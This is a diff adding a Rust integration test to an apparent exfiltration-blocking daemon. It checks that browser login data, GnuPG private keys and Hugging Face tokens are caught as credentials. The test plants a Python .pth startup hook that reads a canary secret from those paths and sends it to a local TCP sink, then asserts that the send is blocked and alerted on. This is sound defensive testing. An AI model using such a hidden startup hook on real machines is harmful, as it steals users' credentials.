@@ -984,3 +984,55 @@ print('main sent')
         "the secret's value is never in an alert"
     );
 }
+
+// ---- credential categories beyond the cloud and SSH ones ----
+
+/// A hook that reads one browser, keyring or data-platform secret (and nothing else) and
+/// sends it: in block mode nothing arrives, and the alert names that file. The sandbox
+/// HOME is given as a home (`--home`), so its files are catalogued by identity as a real
+/// home's are; the hook reads the file through its plain path.
+#[test]
+fn browser_keyring_and_data_platform_secrets_are_credentials() {
+    if !can_run() {
+        return;
+    }
+    for (name, rel) in [
+        ("browser", ".config/google-chrome/Default/Login Data"),
+        ("keyring", ".gnupg/private-keys-v1.d/0123456789ABCDEF.key"),
+        ("hf-token", ".cache/huggingface/token"),
+    ] {
+        let sb = Sandbox::new(&format!("category-{name}"));
+        let secret = sb.write(rel, &format!("secret {}\n", sb.canary));
+        let sink = TcpSink::start();
+        let child = format!(
+            "import os
+home = os.path.expanduser('~')
+with open(os.path.join(home, {rel:?}), 'rb') as f:
+    blob = f.read()
+{}",
+            send_and_record(sink.port)
+        );
+        let pth = sb.pth("category_reader.pth", &spawning_pth_line(&child));
+        let home = sb.home.to_string_lossy().into_owned();
+        let daemon = Daemon::start("block", &["--home", &home]);
+        let (code, out) = sb.python(&["-c", "pass"]);
+        assert_eq!(code, 0, "{name}: {out}");
+        let done = wait_marker(&sb, Duration::from_secs(20));
+        let alert = exfil_alert(&daemon);
+        let alerts = daemon.stop();
+        assert_eq!(done.as_deref(), Some("error 1"), "{name}");
+        assert_eq!(sink.bytes(), 0, "{name}");
+        let alert = alert.unwrap_or_else(|| panic!("{name}: no exfiltration alert in {alerts:#?}"));
+        assert_eq!(alert["action"], "blocked", "{name}: {alert:#}");
+        assert_eq!(
+            alert["startup_hook"]["path"].as_str(),
+            Some(&*real(&pth).to_string_lossy()),
+            "{name}: {alert:#}"
+        );
+        let want = real(&secret).to_string_lossy().into_owned();
+        assert!(
+            integration_tests::payload::strings(&alert["credentials"]).contains(&want),
+            "{name}: {want} not named: {alert:#}"
+        );
+    }
+}
